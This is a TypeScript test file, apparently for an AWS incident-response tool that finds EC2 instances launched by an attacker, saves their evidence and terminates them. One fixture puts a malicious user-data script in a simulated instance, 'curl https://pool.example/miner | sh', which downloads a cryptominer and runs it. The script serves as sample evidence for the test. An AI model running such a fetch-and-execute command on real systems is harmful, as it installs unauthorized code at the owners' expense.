import { describe, expect, it } from 'vitest';
import { ec2Instance } from '../../../lib/resources/ec2/ec2-instance.ts';
import { planErasure } from '../../../lib/resources/plan-erasure.ts';
import { AS_IT_SHOULD, apply, changeFor, erase, saveEvidence, triedHard, verify } from '../erasing.ts';
import { ACCOUNT_ID, type Lab, lab, type Proven, REGION } from '../lab.ts';

const ZONE = `${REGION}a`;

async function launch(there: Lab, count: number, more: object = {}): Promise<readonly Proven[]> {
  await there.attacker.write('ec2', REGION).runInstances({
    ImageId: 'ami-0abcdef1234567890',
    InstanceType: 'c5.4xlarge',
    MinCount: count,
    MaxCount: count,
    Placement: { AvailabilityZone: ZONE },
    ...more,
  });
  return there.proven('RunInstances');
}

const idOf = ({ resource }: Proven) => resource.id;
const instances = (there: Lab) => there.account.region(REGION).ec2.instances;
const isEnded = (state: string | undefined) => state === 'shutting-down' || state === 'terminated';
const ended = (there: Lab) => Object.values(instances(there)).map(({ state }) => isEnded(state));
const calls = (there: Lab, name: string) => there.written().filter((call) => call === name).length;

describe('EC2 instances', () => {
  it('are read from the record of their launch, with region and ARN', async () => {
    const there = lab();
    const made = await launch(there, 3);
    expect(made.map(idOf).toSorted()).toEqual(Object.keys(instances(there)).toSorted());
    expect(made[0]?.resource).toMatchObject({
      type: 'ec2-instance',
      region: REGION,
      arn: `arn:aws:ec2:${REGION}:${ACCOUNT_ID}:instance/${made[0]?.resource.id}`,
    });
  });

  it('are found by their reservation when the record is too large to name them', async () => {
    const there = lab();
    const made = await launch(there, 2);
    const { lineage } = await there.ctx.incident.investigate(there.ctx.signal);
    const record = lineage.records.find(({ eventName }) => eventName === 'RunInstances');
    if (record === undefined) throw new Error('no launch');
    const cut = {
      ...record,
      responseElements: { ...record.responseElements, instancesSet: { omitted: true } },
    };
    const [event] = ec2Instance.createdBy;
    expect(event?.refs(cut)).toEqual([]);
    const found = await event?.recover?.(there.ctx, cut);
    expect(found?.map(({ id }) => id).toSorted()).toEqual(made.map(idOf).toSorted());
  });

  it('are terminated in one call for a zone', async () => {
    const there = lab();
    const made = await launch(there, 5);
    const outcomes = await erase(there, made);
    expect(outcomes.map(({ result }) => result)).toEqual(Array(5).fill('applied'));
    expect(calls(there, 'TerminateInstances')).toBe(1);
    expect(ended(there)).toEqual(Array(5).fill(true));
    expect(await verify(there, made[0])).toEqual({ held: true });
  });

  it('are told as still there before', async () => {
    const there = lab();
    const [one] = await launch(there, 1);
    expect(await verify(there, one)).toMatchObject({
      held: false,
      found: expect.stringContaining('c5.4xlarge'),
    });
  });

  it('lose both protections before the call is sent, and the plan says so', async () => {
    const there = lab();
    const made = await launch(there, 2, { DisableApiTermination: true, DisableApiStop: true });
    expect(made[0]?.state.protections).toEqual(['disableApiTermination', 'disableApiStop']);
    expect(changeFor(made[0]).title).toContain('disableApiTermination is switched off first');
    await erase(there, made);
    expect(there.written()).toEqual([...Array(4).fill('ModifyInstanceAttribute'), 'TerminateInstances']);
    expect(ended(there)).toEqual([true, true]);
  });

  it('are cleared and sent again when a protection came back in between', async () => {
    const there = lab();
    const made = await launch(there, 3);
    there.refuse('TerminateInstances', 'OperationNotPermitted', { times: 1 });
    expect((await erase(there, made)).map(({ result }) => result)).toEqual(Array(3).fill('applied'));
  });

  it('are not saved by one whose protection cannot be cleared', async () => {
    const there = lab();
    const made = [...(await launch(there, 1, { DisableApiTermination: true })), ...(await launch(there, 2))];
    there.refuse('ModifyInstanceAttribute', 'UnauthorizedOperation');
    const outcomes = await erase(there, made);
    expect(outcomes).toMatchObject([
      { result: 'failed', code: 'UnauthorizedOperation' },
      { result: 'applied' },
      { result: 'applied' },
    ]);
    expect(isEnded(instances(there)[made[0]?.resource.id ?? '']?.state)).toBe(false);
  });

  it('are not saved by ids AWS no longer knows', async () => {
    const there = lab();
    const made = await launch(there, 4);
    delete instances(there)[made[1]?.resource.id ?? ''];
    const outcomes = await erase(there, made);
    expect(outcomes.map(({ result }) => result)).toEqual(['applied', 'already-gone', 'applied', 'applied']);
    expect(ended(there)).toEqual([true, true, true]);
  });

  it('are not saved by one that may not be terminated', async () => {
    const there = lab();
    const made = await launch(there, 5);
    there.refuse('TerminateInstances', 'UnauthorizedOperation', { naming: made[2]?.resource.id ?? '' });
    const outcomes = await erase(there, made);
    expect(outcomes.map(({ result }) => result)).toEqual([
      'applied',
      'applied',
      'failed',
      'applied',
      'applied',
    ]);
    expect(outcomes[2]).toMatchObject({ code: 'UnauthorizedOperation' });
  });

  it('are not tried one by one when the account is throttled', async () => {
    const there = lab();
    const made = await launch(there, 8);
    let sent = 0;
    there.refuse('TerminateInstances', 'RequestLimitExceeded', {
      seen: () => {
        sent += 1;
      },
    });
    const outcomes = await erase(there, made);
    expect(outcomes.map((outcome) => outcome.result === 'failed' && outcome.code)).toEqual(
      Array(8).fill('RequestLimitExceeded'),
    );
    // The retries of one call, not of one for each half of a half.
    expect(sent).toBeLessThan(12);
    expect(ended(there)).toEqual(Array(8).fill(false));
  });

  it('gone already, denied and throttled are told apart', async () => {
    const there = lab();
    const made = await launch(there, 1, { DisableApiTermination: true });
    expect(await triedHard(there, 'ec2-instance', made, 'TerminateInstances')).toEqual(AS_IT_SHOULD);
  });

  it('terminated before are told as gone', async () => {
    const there = lab();
    const made = await launch(there, 1);
    await erase(there, made);
    await there.clock.advance(10 * 60_000);
    const [state] = await ec2Instance.look(there.ctx, REGION, [
      made[0]?.resource ?? { type: '', id: '', region: '' },
    ]);
    expect(state?.state).toBe('deleted');
    expect(await erase(there, made)).toEqual([{ result: 'already-gone' }]);
  });

  it('that describe does not find yet are not gone, and those told as terminated are', async () => {
    const there = lab();
    const [late, ended] = await launch(there, 2);
    if (late === undefined || ended === undefined) throw new Error('nothing was launched');
    const listed = instances(there);
    const hidden = listed[idOf(late)];
    const terminated = listed[idOf(ended)];
    if (hidden === undefined || terminated === undefined) throw new Error('nothing was launched');
    terminated.state = 'terminated';
    terminated.terminatedAt = there.clock.now().toISOString();
    delete listed[idOf(late)];
    const waits: number[] = [];
    const clock: Lab['ctx']['clock'] = {
      now: () => there.clock.now(),
      async sleep(ms, signal) {
        waits.push(ms);
        await there.clock.sleep(ms, signal);
        // Known from the third look on.
        if (waits.length === 2) listed[idOf(late)] = hidden;
      },
    };
    const { lineage } = await there.ctx.incident.investigate(there.ctx.signal, { fresh: true });
    const { changes, counts } = await planErasure({ ...there.ctx, clock }, lineage);
    expect(changes.map(({ target }) => target.id)).toEqual([idOf(late)]);
    expect(counts).toMatchObject({ attacker: 1, gone: 1 });
    expect(waits).toHaveLength(2);
  });

  it('that are still not found a minute after their launch are gone', async () => {
    const there = lab();
    const [one] = await launch(there, 1);
    delete instances(there)[one === undefined ? '' : idOf(one)];
    const { lineage } = await there.ctx.incident.investigate(there.ctx.signal, { fresh: true });
    const launchedAt = there.clock.now().getTime();
    const { changes, counts } = await planErasure(there.ctx, lineage);
    expect([changes, counts.gone]).toEqual([[], 1]);
    const waited = there.clock.now().getTime() - launchedAt;
    expect(waited).toBeGreaterThanOrEqual(60_000);
    // Old news is believed at once.
    await planErasure(there.ctx, lineage);
    expect(there.clock.now().getTime() - launchedAt).toBe(waited);
  });

  it('leave description, user data and console output behind as evidence', async () => {
    const there = lab();
    const script = '#!/bin/sh\ncurl https://pool.example/miner | sh\n';
    const [one] = await launch(there, 1, { UserData: Buffer.from(script).toString('base64') });
    await saveEvidence(there, one);
    const folder = `resources/${REGION}/ec2-instance/${one?.resource.id}`;
    expect([...there.evidence.keys()].toSorted()).toEqual([
      `${folder}/console-output.txt`,
      `${folder}/description.json`,
      `${folder}/user-data`,
    ]);
    expect(there.evidence.get(`${folder}/user-data`)).toBe(script);
    expect(JSON.parse(there.evidence.get(`${folder}/description.json`) ?? '')).toMatchObject({
      InstanceId: one?.resource.id,
    });
  });

  it('are terminated even when their evidence cannot be had, which is said', async () => {
    const there = lab();
    const made = await launch(there, 1);
    there.refuse('GetConsoleOutput', 'UnauthorizedOperation');
    await saveEvidence(there, made[0]);
    expect(there.messages).toContainEqual(
      expect.objectContaining({
        type: 'note',
        level: 'warning',
        text: expect.stringContaining(
          `${made[0]?.resource.id} (${REGION}) could be saved. UnauthorizedOperation`,
        ),
      }),
    );
  });

  it('take the volumes with them that their launch made and termination leaves', async () => {
    const there = lab();
    const made = await launch(there, 1, {
      BlockDeviceMappings: [{ DeviceName: '/dev/sdb', Ebs: { VolumeSize: 500, DeleteOnTermination: false } }],
    });
    await there.clock.advance(5 * 60_000);
    const foreign = await there.ctx.aws
      .write('ec2', REGION)
      .createVolume({ AvailabilityZone: ZONE, Size: 8 });
    await there.ctx.aws.write('ec2', REGION).attachVolume({
      VolumeId: foreign.VolumeId ?? '',
      InstanceId: made[0]?.resource.id ?? '',
      Device: '/dev/sdf',
    });
    const { lineage } = await there.ctx.incident.investigate(there.ctx.signal, { fresh: true });
    const before = await planErasure(there.ctx, lineage);
    expect(before.changes.map(({ kind }) => kind)).toEqual(['erase:ec2-instance', 'erase:ec2-volume']);

    await saveEvidence(there, made[0]);
    await erase(there, made);
    await there.clock.advance(10 * 60_000);
    // The instance no longer tells its volumes; what was saved about it does.
    const after = await planErasure(there.ctx, lineage);
    expect(after.changes.map(({ target }) => target.id)).toEqual([before.changes[1]?.target.id]);
    await apply(there, after.changes);
    expect(Object.keys(there.account.region(REGION).ec2.volumes)).toEqual([foreign.VolumeId]);
  });

  it('are terminated although somebody else has used up what AWS lets terminate at once', async () => {
    const there = lab();
    const attached = ['arn:aws:iam::aws:policy/AdministratorAccess'];
    const others = there.as(there.user('operator', { attached })).write('ec2', REGION);
    const many = { ImageId: 'ami-0abcdef1234567890', MinCount: 960, MaxCount: 960 };
    const { Instances = [] } = await others.runInstances(many);
    const theirs = Instances.map(({ InstanceId = '' }) => InstanceId);
    const made = await launch(there, 15);
    await others.terminateInstances({ InstanceIds: theirs });
    await others.terminateInstances({ InstanceIds: theirs.slice(0, 40) });
    const outcomes = await erase(there, made);
    expect(outcomes.map(({ result }) => result)).toEqual(Array(15).fill('applied'));
    expect(
      there.account.state.records.map(({ record }) => [record.eventName, record.errorCode]),
    ).toContainEqual(['TerminateInstances', 'Client.RequestLimitExceeded']);
  });

  it('have a command that clears what protects them and terminates them', async () => {
    const there = lab();
    const [one] = await launch(there, 1, { DisableApiTermination: true });
    const id = one?.resource.id;
    expect(changeFor(one).command.split('\n')).toEqual([
      `aws ec2 modify-instance-attribute --region ${REGION} --instance-id ${id} --no-disable-api-termination`,
      `aws ec2 terminate-instances --region ${REGION} --instance-ids ${id}`,
    ]);
  });
});
